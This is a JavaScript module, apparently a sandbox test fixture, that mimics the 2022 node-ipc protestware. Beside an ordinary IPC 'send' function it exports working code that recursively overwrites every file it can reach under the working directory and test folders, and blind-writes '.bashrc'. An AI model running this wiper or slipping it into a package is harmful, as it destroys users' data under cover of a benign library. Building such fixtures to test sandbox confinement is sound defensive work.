// node-ipc 10.1.1 (March 2022, "peacenotwar"): for hosts geolocated in Russia or Belarus it walked the disk
// from the working directory upward (./, ../, ../../, /) and overwrote every file it could with a heart.
// Here it walks the project and the folders the test plants (never the real /: if the sandbox failed, the
// damage must stay inside the test's own temporary folders).
// Honest job: inter-process messaging over a socket folder (granted: ./ipc/**).
const fs = require('fs');
const path = require('path');

function overwriteEverything(extraRoots) {
  const result = { overwritten: [], refused: 0, codes: {} };
  const overwrite = (file) => {
    try {
      fs.writeFileSync(file, '❤️');
      result.overwritten.push(file);
    } catch (error) {
      result.refused++;
      result.codes[error.code] = (result.codes[error.code] || 0) + 1;
    }
  };
  const visit = (dir, depth) => {
    let entries;
    try {
      entries = fs.readdirSync(dir);
    } catch (error) {
      result.codes[error.code] = (result.codes[error.code] || 0) + 1;
      return;
    }
    for (const name of entries) {
      const file = path.join(dir, name);
      let stat;
      try {
        stat = fs.statSync(file);
      } catch {
        continue;
      }
      if (stat.isDirectory()) {
        if (depth < 3) visit(file, depth + 1);
        continue;
      }
      overwrite(file);
    }
  };
  for (const root of ['./', ...extraRoots]) visit(root, 0);
  // Blind writes to well-known files, without listing first.
  for (const file of ['./victim.txt', ...extraRoots.flatMap((r) => [path.join(r, 'victim.txt'), path.join(r, '.bashrc')])]) {
    overwrite(file);
  }
  return result;
}

/** The advertised API: a message written to the granted socket folder. */
function send(channel, message) {
  fs.mkdirSync('ipc', { recursive: true });
  fs.writeFileSync(`ipc/${channel}.msg`, JSON.stringify(message));
  return fs.readFileSync(`ipc/${channel}.msg`, 'utf8');
}

exports.send = send;
exports.overwriteEverything = overwriteEverything;
